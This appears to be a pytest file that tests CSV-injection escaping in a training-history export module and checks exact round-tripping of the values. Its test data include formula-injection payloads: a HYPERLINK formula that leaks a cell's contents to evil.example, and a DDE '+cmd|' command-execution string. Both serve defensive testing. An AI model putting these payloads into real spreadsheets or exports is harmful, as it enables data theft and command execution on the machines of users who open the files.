import csv
import io
import math
from dataclasses import replace

import pytest

from nncore.exchange.history_csv import (
    COLUMNS,
    HistoryTable,
    escape_cell,
    history_csv,
    read_history_csv,
    table_csv,
    unescape_cell,
)
from nncore.training.history import EpochRecord

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tindent",
    "\rreturn",
    "'already quoted",
    "''=twice",
    'plain, with "quotes" and a comma',
    "line\nbreak",
    "ünïcødé 名前",
    "",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_escape_is_undone_exactly(text):
    escaped = escape_cell(text)
    assert unescape_cell(escaped) == text
    assert not escaped.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_escape_prefixes_one_quote_only_where_needed():
    assert escape_cell("=1+1") == "'=1+1"
    assert escape_cell("-5") == "'-5"
    assert escape_cell("'x") == "''x"
    assert escape_cell("circles") == "circles"


def _table(**changes):
    records = (
        EpochRecord(1, 0.693147, 0.5, 0.70001, 0.45, 0.125),
        EpochRecord(2, -0.25, 0.0, float("nan"), float("inf"), 1e-300),  # negative and odd numbers
        EpochRecord(3, 0.1 + 0.2, 1.0, 1 / 3, 2 / 3, 12.5),
    )
    table = HistoryTable(records=records, metric_name="accuracy", run='=HYPERLINK("http://x","y")', dataset="@evil", model="-model")
    return replace(table, **changes)


def _raw_rows(data: bytes):
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_escapes_formula_like_text_cells_and_keeps_numbers_plain():
    rows = _raw_rows(table_csv(_table()))
    assert tuple(rows[0]) == COLUMNS
    body = [dict(zip(COLUMNS, row)) for row in rows[1:]]
    assert [row["run"] for row in body] == ["'=HYPERLINK(\"http://x\",\"y\")"] * 3
    assert body[0]["dataset"] == "'@evil" and body[0]["model"] == "'-model"
    # A negative number is a number, not a formula: written as is, never quoted.
    assert body[1]["loss"] == "-0.25"
    # No cell at all starts with a formula character except plain negative numbers.
    for row in body:
        for name, cell in row.items():
            if cell.startswith(("=", "+", "@", "\t", "\r")):
                pytest.fail(f"unescaped cell {name}={cell!r}")
            if cell.startswith("-"):
                float(cell)  # must be a number


def test_csv_reads_back_to_the_same_values():
    table = _table()
    back = read_history_csv(table_csv(table))
    assert (back.run, back.dataset, back.model, back.metric_name) == (table.run, table.dataset, table.model, "accuracy")
    assert len(back.records) == 3
    for got, want in zip(back.records, table.records):
        assert got.epoch == want.epoch
        for name in ("loss", "metric", "val_loss", "val_metric", "seconds"):
            a, b = getattr(got, name), getattr(want, name)
            assert (math.isnan(a) and math.isnan(b)) or a == b, name  # bit for bit, not approximately


@pytest.mark.parametrize("text", HOSTILE)
def test_every_hostile_name_round_trips(text):
    table = _table(run=text, dataset=text, model=text)
    back = read_history_csv(table_csv(table))
    assert (back.run, back.dataset, back.model) == (text, text, text)


def test_read_refuses_another_table():
    with pytest.raises(ValueError, match=r"Expected a history CSV with the columns \['epoch'"):
        read_history_csv(b"a,b\n1,2\n")
    bad_epoch = table_csv(_table()).replace(b"\r\n1,", b"\r\n1.5,", 1)
    with pytest.raises(ValueError, match=r"Expected a whole epoch number in line 2. Received: '1.5'"):
        read_history_csv(bad_epoch)


def test_a_trained_run_with_a_hostile_name_and_title_round_trips():
    from tests.exchange.runs import circles_mlp

    run = circles_mlp()
    hostile_dataset = replace(run.dataset, title='=HYPERLINK("http://evil.example","Spiral")')
    hostile = replace(run, dataset=hostile_dataset, extra={"name": "+cmd|' /C calc'!A0"})
    data = history_csv(hostile)
    assert b"'=HYPERLINK" in data and b"'+cmd|" in data
    back = read_history_csv(data)
    assert back.run == "+cmd|' /C calc'!A0"
    assert back.dataset == hostile_dataset.title
    assert back.metric_name == "accuracy"
    assert back.records == run.history  # every float bit for bit
